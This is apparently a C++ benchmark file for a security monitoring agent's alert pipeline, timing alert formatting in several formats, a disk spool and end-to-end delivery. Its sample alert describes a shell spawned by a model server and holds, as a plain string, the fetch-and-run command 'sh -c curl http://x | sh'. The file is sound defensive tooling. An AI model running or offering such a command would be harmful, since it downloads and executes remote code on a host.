// Output throughput: formatting a typical alert in each format, the spool's append + read +
// commit cycle, and one output end to end (queue -> spool -> a receiver that takes everything).
#include <benchmark/benchmark.h>
#include <unistd.h>

#include <filesystem>
#include <mutex>

#include "agent/pipeline/output_channel.h"
#include "exporters/format/format.h"
#include "exporters/format/syslog_format.h"
#include "exporters/spool/spool.h"

namespace ztai {
namespace {

Record typical_alert() {
  Record r;
  r.time_unix_ns = 1'700'000'000'123'456'789ULL;
  r.rule = "Shell spawned by a model server";
  r.priority = Priority::kWarning;
  r.source = "syscall";
  r.hostname = "gpu-node-17";
  r.output = "Shell spawned by a model server (proc.name=sh parent=python3 cmdline=sh -c curl http://x | sh)";
  r.tags = {"ai", "mitre_execution", "T1059"};
  r.fields = {{"evt.type", std::string("execve")},     {"proc.pid", uint64_t(4242)},
              {"proc.name", std::string("sh")},        {"proc.exepath", std::string("/usr/bin/sh")},
              {"proc.cmdline", std::string("sh -c curl http://x | sh")},
              {"proc.ppid", uint64_t(4000)},           {"proc.pname", std::string("python3")},
              {"user.uid", uint64_t(1000)},            {"cgroup.id", uint64_t(123456)}};
  return r;
}

void BM_Format(benchmark::State& state, const char* name) {
  FormatFn f = *find_format(name);
  Record r = typical_alert();
  std::string out;
  for (auto _ : state) {
    out.clear();
    f(r, out);
    benchmark::DoNotOptimize(out.data());
  }
  state.SetItemsProcessed(state.iterations());
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations() * out.size()));
}
BENCHMARK_CAPTURE(BM_Format, json, "json");
BENCHMARK_CAPTURE(BM_Format, ocsf, "ocsf");
BENCHMARK_CAPTURE(BM_Format, ecs, "ecs");
BENCHMARK_CAPTURE(BM_Format, cef, "cef");

void BM_FormatSyslog(benchmark::State& state) {
  SyslogFormatOptions o;
  o.body = *find_format("json");
  Record r = typical_alert();
  std::string out;
  for (auto _ : state) {
    out.clear();
    format_rfc5424(r, o, out);
    benchmark::DoNotOptimize(out.data());
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_FormatSyslog);

std::string bench_dir(const char* what) {
  return std::filesystem::temp_directory_path() / (std::string("ztai-bench-") + what + "-" + std::to_string(getpid()));
}

// Append a batch, read it back, commit: the spool's cost per record while a receiver keeps up.
void BM_SpoolCycle(benchmark::State& state) {
  std::string dir = bench_dir("spool");
  std::filesystem::remove_all(dir);
  auto spool = Spool::open({dir, 256u << 20, 0, state.range(0) != 0});
  Record r = typical_alert();
  const size_t batch = 256;
  for (auto _ : state) {
    for (size_t i = 0; i < batch; ++i) (void)(*spool)->append(r);
    (void)(*spool)->sync();
    auto got = (*spool)->read(batch);
    benchmark::DoNotOptimize(got);
    (void)(*spool)->commit();
  }
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations() * batch));
  spool->reset();
  std::filesystem::remove_all(dir);
}
BENCHMARK(BM_SpoolCycle)->Arg(0)->Arg(1)->ArgName("fsync")->UseRealTime();

class CountingExporter : public Exporter {
 public:
  std::string_view name() const override { return "count"; }
  Status send(const Record&) override { return {}; }
  DeliveryReport deliver(std::span<const Record> batch) override {
    std::lock_guard lock(mutex);
    delivered += batch.size();
    return {};
  }
  std::mutex mutex;
  size_t delivered = 0;
};

// Records submitted until the receiver has all of them: queue, optional spool, batching.
void BM_OutputEndToEnd(benchmark::State& state) {
  const bool spooled = state.range(0) != 0;
  const size_t n = 10'000;
  std::string dir = bench_dir("channel");
  Record r = typical_alert();
  for (auto _ : state) {
    std::filesystem::remove_all(dir);
    MetricsRegistry metrics;
    auto e = std::make_unique<CountingExporter>();
    CountingExporter* x = e.get();
    OutputSpec spec;
    spec.options.name = "bench";
    spec.options.queue_capacity = n;
    if (spooled) spec.options.spool = SpoolOptions{dir, 256u << 20};
    spec.exporter = std::move(e);
    auto c = OutputChannel::create(std::move(spec), metrics);
    for (size_t i = 0; i < n; ++i) (*c)->submit(r);
    (*c)->stop();
    if (x->delivered != n) state.SkipWithError("records lost");
  }
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations() * n));
  std::filesystem::remove_all(dir);
}
BENCHMARK(BM_OutputEndToEnd)->Arg(0)->Arg(1)->ArgName("spool")->Unit(benchmark::kMillisecond)->UseRealTime();

}  // namespace
}  // namespace ztai

BENCHMARK_MAIN();
